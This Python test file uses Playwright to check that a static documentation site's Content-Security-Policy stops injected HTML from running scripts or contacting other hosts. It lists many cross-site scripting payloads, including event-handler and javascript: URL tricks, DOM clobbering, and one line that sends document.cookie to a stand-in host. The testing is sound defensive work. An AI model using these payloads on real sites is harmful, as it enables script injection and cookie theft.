"""Every page's Content-Security-Policy, alone: what no check saw neither runs nor calls out."""

import base64
import hashlib
import json
import mimetypes
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import markdown
import pytest
from bs4 import BeautifulSoup
from playwright.sync_api import Browser, Dialog, Page, Route, expect

from tests.conftest import DESK
from tests.static_site import Site
from tests.test_guard import ACTIVE
from tests.test_zensical import Engines, built

__all__ = ["built"]

HOST = "https://notes.test"
ELSEWHERE = "https://elsewhere.test"
DATA = ("application/json", "application/ld+json")

HTML = [
    "<script>window.ran = 1</script>",
    f'<script src="{ELSEWHERE}/x.js"></script>',
    f'<script type="module">import("{ELSEWHERE}/x.js")</script>',
    f'<script type="module" src="{ELSEWHERE}/x.js"></script>',
    '<script src="data:text/javascript,window.ran=1"></script>',
    '<script>"use strict"; fetch("https://elsewhere.test/" + document.cookie)</script>',
    '<img src="nothing.png" onerror="window.ran = 1" alt="">',
    '<svg onload="window.ran = 1"></svg>',
    '<svg><animate onbegin="window.ran = 1" attributeName="x" dur="1s"/></svg>',
    "<svg><script>window.ran = 1</script></svg>",
    f'<svg><script href="{ELSEWHERE}/x.js"></script></svg>',
    f'<svg><use href="{ELSEWHERE}/x.svg#a"></use><image href="{ELSEWHERE}/a.png"></image></svg>',
    '<details open ontoggle="window.ran = 1"><summary>x</summary></details>',
    '<input autofocus onfocus="window.ran = 1">',
    '<div style="animation: md-status 1s" onanimationstart="window.ran = 1">x</div>',
    '<video autoplay onerror="window.ran = 1"><source src="x" onerror="window.ran = 1"></video>',
    '<iframe srcdoc="<script>parent.ran = 1</script>"></iframe>',
    f'<iframe src="{ELSEWHERE}/"></iframe>',
    '<iframe src="javascript:parent.ran = 1"></iframe>',
    '<iframe src="data:text/html,<script>parent.ran = 1</script>"></iframe>',
    f'<object data="{ELSEWHERE}/x.svg"></object><embed src="{ELSEWHERE}/x.svg">',
    f'<base href="{ELSEWHERE}/"><script src="x.js"></script><img src="a.png" alt="">',
    f'<link rel="stylesheet" href="{ELSEWHERE}/x.css"><link rel="icon" href="{ELSEWHERE}/x.ico">',
    f'<link rel="prefetch" href="{ELSEWHERE}/x"><link rel="modulepreload" href="{ELSEWHERE}/x.js">',
    f'<link rel="manifest" href="{ELSEWHERE}/x.json">',
    f'<link rel="preload" as="font" href="{ELSEWHERE}/f">',
    f'<style>@import "{ELSEWHERE}/x.css"; body {{ background: url({ELSEWHERE}/x.png) }}</style>',
    f"<style>@font-face {{ font-family: x; src: url({ELSEWHERE}/f) }} p {{ font: 1em x }}</style>",
    f'<p style="position: fixed; inset: 0; background: url({ELSEWHERE}/x.png)">x</p>',
    f'<math><mstyle style="background: url({ELSEWHERE}/x.png)"><mi>x</mi></mstyle></math>',
    f'<img src="{ELSEWHERE}/a.png" alt=""><img srcset="{ELSEWHERE}/a.png 2x" alt="">',
    f'<picture><source srcset="{ELSEWHERE}/a.png"><img alt="" src="x.png"></picture>',
    f'<audio autoplay src="{ELSEWHERE}/a.mp3"></audio><video poster="{ELSEWHERE}/p.png"></video>',
    f'<a ping="{ELSEWHERE}/" href="#x" id="press">x</a>',
    '<a href="javascript:window.ran = 1" id="press">x</a>',
    '<form action="javascript:window.ran = 1"><button id="press">x</button></form>',
    f'<form action="{ELSEWHERE}/"><input name="a"><button id="press">x</button></form>',
    f'<button form="f" formaction="{ELSEWHERE}/" id="press">x</button><form id="f"></form>',
    f'<code id="__config">{{"base": "{ELSEWHERE}", "features": [], "translations": {{}}}}</code>',
    f'<div><template shadowrootmode="open"><img src="{ELSEWHERE}/a.png"></template></div>',
    '<div><template shadowrootmode="open"><script>window.ran = 1</script></template></div>',
    f'<svg><foreignObject><img src="{ELSEWHERE}/a" onerror="window.ran = 1"></foreignObject></svg>',
    '<svg><a id="press"><animate attributeName="href" values="javascript:window.ran = 1" dur="0s" '
    'fill="freeze"/><text y="9">x</text></a></svg>',
    f'<svg><image><set attributeName="href" to="{ELSEWHERE}/a.png"/></image></svg>',
    f'<svg><filter id="f"><feImage href="{ELSEWHERE}/a"/></filter><rect filter="url(#f)"/></svg>',
    f'<svg><rect width="9" height="9" fill="url({ELSEWHERE}/p.svg#p)"/></svg>',
    '<math href="javascript:window.ran = 1" id="press"><mi>x</mi></math>',
    f'<math><semantics><mi>x</mi><annotation-xml encoding="text/html"><img src="{ELSEWHERE}/a.png">'
    "</annotation-xml></semantics></math>",
    f"<p style=\"background: image-set(url({ELSEWHERE}/a.png) 1x, '{ELSEWHERE}/b.png' 2x)\">x</p>",
    f'<ul style="list-style: url({ELSEWHERE}/l.png)"><li>x</li></ul>',
    f'<p style="border: 9px solid; border-image: url({ELSEWHERE}/b.png) 9">x</p>',
    f'<p style="-webkit-mask-box-image: url({ELSEWHERE}/m.png); --a: url({ELSEWHERE}/v)">x</p>',
    f'<p class="pn-x">x</p><style>.pn-x::before {{ content: url({ELSEWHERE}/k.png) }}</style>',
    f'<table background="{ELSEWHERE}/a.png"><tr><td background="{ELSEWHERE}/b.png">x</td></table>',
    f'<input type="image" src="{ELSEWHERE}/a.png">',
    f'<link rel="preload" as="image" imagesrcset="{ELSEWHERE}/a.png 2x">',
    f'<video src="data:video/mp4,"><track default src="{ELSEWHERE}/t.vtt"></video>',
    '<script type="importmap">{"imports": {"a": "https://elsewhere.test/a.js"}}</script>'
    '<script type="module">import "a"</script>',
    '<meta http-equiv="Content-Security-Policy" content="script-src \'unsafe-inline\'">'
    "<script>window.ran = 1</script>",
    '<div popover id="p" ontoggle="window.ran = 1">x</div>'
    '<button id="press" popovertarget="p">x</button>',
    '<map name="m"><area shape="default" href="javascript:window.ran = 1" id="press"></map>',
    '<a href="java&Tab;script:window.ran = 1" id="press">x</a>',
    '<xss onfocus="window.ran = 1" tabindex="1" autofocus>x</xss>',
    '<script type="speculationrules">{"prefetch": [{"source": "list", '
    '"urls": ["https://elsewhere.test/s"]}]}</script>',
]
_NAMES = (
    "__config __md_scope __md_get __search base currentScript localStorage caches fetch Worker URL"
)
CLOBBERING = [
    "".join(f'<a id="{n}" name="{n}" href="{ELSEWHERE}/">x</a>' for n in _NAMES.split()),
    "".join(
        f'<form id="{n}" name="{n}"><input name="{m}" value="{ELSEWHERE}"></form>'
        for n in (*_NAMES.split(), "body", "head", "cookie")
        for m in ("src", "href", "dataset", "base", "textContent")
    ),
    f'<div class="pn-snippet" data-snippet="{ELSEWHERE}/x.py" data-source="{ELSEWHERE}/x.py">'
    '<button class="pn-run" id="press">x</button></div>'
    f'<form class="pn-filter" data-total="9" data-rows="{ELSEWHERE}/q.json" hidden></form>'
    + "".join(
        f'<div data-md-component="{n}" data-md-url="{ELSEWHERE}"><a href="{ELSEWHERE}/">x</a></div>'
        for n in ("announce", "consent", "content", "outdated", "search", "source", "tabs", "toc")
    ),
]
"""Names and places in which the scripts of the theme and ours look for what is theirs."""
ADDRESSES = [
    "#<img src=x onerror=window.ran=1>",
    "#javascript:window.ran=1",
    "#%E0%A4%A",
    "#run=electra/flops_glue.py&code=%",
    "#run=../../x&code=eyJhIjoxfQ",
    '?h="><script>window.ran=1</script>',
    "?q=<img src=x onerror=window.ran=1>",
    "?q=javascript:window.ran=1#__proto__[x]=1",
]


def payloads() -> Iterator[list[str]]:
    """Yield HTML that a check would have refused, by pages."""
    extensions = ["attr_list", "md_in_html", "fenced_code"]
    made = [markdown.markdown(text, extensions=extensions) for text in ACTIVE]
    made = [
        each.replace("alert(1)", "window.ran = 1").replace("e.com", "elsewhere.test")
        for each in made
    ]
    for each in (HTML, made):
        yield from (each[start::5] for start in range(5))
    yield from ([each] for each in CLOBBERING)


@dataclass
class Visit:
    """A page with a payload: what it asked of others, and what showed that something ran."""

    page: Page
    payload: str = ""
    foreign: list[str] = field(default_factory=list)
    ran: list[str] = field(default_factory=list)


@pytest.fixture
def visit(browser: Browser, exported: Site) -> Iterator[Visit]:
    """A page whose answers come from the built site, without a header of any server."""
    context = browser.new_context(viewport=DESK)  # type: ignore[arg-type]
    found = Visit(context.new_page())

    def answer(route: Route) -> None:
        address = urlsplit(route.request.url)
        if f"{address.scheme}://{address.netloc}" != HOST:
            found.foreign.append(route.request.url)
            route.abort()
            return
        file = exported.folder / address.path.lstrip("/")
        file = file / "index.html" if file.is_dir() else file
        if not file.is_file():
            route.fulfill(status=404, body="")
            return
        kind = mimetypes.guess_type(file.name)[0] or "text/plain"
        body = file.read_bytes()
        if file.name == "index.html":
            body = body.replace(b"</h1>", b"</h1>" + found.payload.encode(), 1)
        if address.path == "/search/index.json":
            index = json.loads(body)
            for each in index["entries"]:
                each["title"] = "마스크 <img src=x onerror='window.ran = 1'>"
            body = json.dumps(index).encode()
        route.fulfill(body=body, content_type=kind)

    def dismiss(dialog: Dialog) -> None:
        found.ran.append(dialog.message)
        dialog.dismiss()

    found.page.on("dialog", dismiss)
    context.route("**/*", answer)
    yield found
    context.close()


@pytest.mark.browser
def test_no_payload_runs_or_asks_another_host(visit: Visit) -> None:
    for batch in payloads():
        # A mark after each: none may swallow the next.
        visit.payload = "".join(f"<div>{each}</div><i class=mark></i>" for each in batch)
        visit.page.goto(f"{HOST}/papers/electra/?h=마스크", wait_until="load")
        for pressed in visit.page.locator("#press").all():
            pressed.dispatch_event("click")
        visit.page.mouse.move(5, 5)
        visit.page.wait_for_timeout(60)
        assert visit.page.locator("i.mark").count() == len(batch), batch
        assert visit.page.evaluate("window.ran") is None, batch
        assert (visit.foreign, visit.ran) == ([], []), batch
        assert visit.page.url.startswith(HOST), batch


@pytest.mark.browser
def test_no_address_runs_anything(visit: Visit) -> None:
    for address in ADDRESSES:
        visit.page.goto("about:blank")  # or the same page would stay
        visit.page.goto(f"{HOST}/papers/electra/{address}", wait_until="load")
        visit.page.wait_for_timeout(60)
        assert visit.page.evaluate("window.ran") is None, address
        assert (visit.foreign, visit.ran) == ([], []), address


PRESS = """() => document.querySelectorAll("iframe").forEach(({ contentDocument: framed }) => framed
  ?.querySelector("#press")?.dispatchEvent(new MouseEvent("click", { bubbles: true })))"""
RAN = """() => [...document.querySelectorAll("iframe")].map(({ contentDocument: framed }) =>
  framed?.defaultView.ran !== undefined)"""


@pytest.mark.browser
def test_without_the_policy_the_same_payloads_run_and_ask(visit: Visit) -> None:
    """So the test above tests something."""

    def bare(route: Route) -> None:
        """Answer with the payload, which asks a host of its own."""
        number = route.request.url.split("/")[-2]
        payload = HTML[int(number)].replace("elsewhere.test", f"{number}.elsewhere.test")
        route.fulfill(body=f"<!doctype html><h1>x</h1>{payload}", content_type="text/html")

    frames = "".join(f'<iframe src="{number}/"></iframe>' for number in range(len(HTML)))
    visit.page.route(
        f"{HOST}/bare/", lambda route: route.fulfill(body=frames, content_type="text/html")
    )
    visit.page.route(f"{HOST}/bare/*/", bare)
    visit.page.goto(f"{HOST}/bare/", wait_until="load")
    visit.page.evaluate(PRESS)
    visit.page.wait_for_timeout(60)
    harmful = {int(re.split("//|\\.", url)[1]) for url in visit.foreign}
    harmful |= {number for number, ran in enumerate(visit.page.evaluate(RAN)) if ran}
    assert len(harmful) > len(HTML) * 0.8


@pytest.mark.browser
def test_a_title_in_the_search_runs_nothing(visit: Visit) -> None:
    visit.page.goto(f"{HOST}/papers/roberta/")
    visit.page.keyboard.press("/")
    visit.page.get_by_role("combobox", name="찾을 말").fill("마스크")
    expect(visit.page.locator("[role=option]").first).to_contain_text("<img")
    visit.page.wait_for_timeout(200)
    assert visit.page.evaluate("window.ran") is None
    assert (visit.foreign, visit.ran) == ([], [])


@pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
def test_every_page_has_a_policy_first_that_allows_its_own_scripts_alone(
    built: Engines, engine: str
) -> None:
    pages = 0
    for file in Path(getattr(built, engine)).rglob("*.html"):
        soup = BeautifulSoup(file.read_text("utf-8"), "html.parser")
        assert soup.head
        names = soup.head.find_all(True)[:2]
        assert names[1].get("http-equiv") == "Content-Security-Policy", file
        policy = str(names[1]["content"])
        assert policy.startswith("default-src 'none'; script-src 'self' ")
        for script in soup.find_all("script"):
            if script.get("src") or script.get("type") in DATA:
                continue
            digest = hashlib.sha256(str(script.string).encode()).digest()
            assert base64.b64encode(digest).decode() in policy, (file, script)
        for made in soup.find_all(True):
            assert not [name for name in made.attrs if name.startswith("on")], (file, made)
        pages += 1
    assert pages > 10
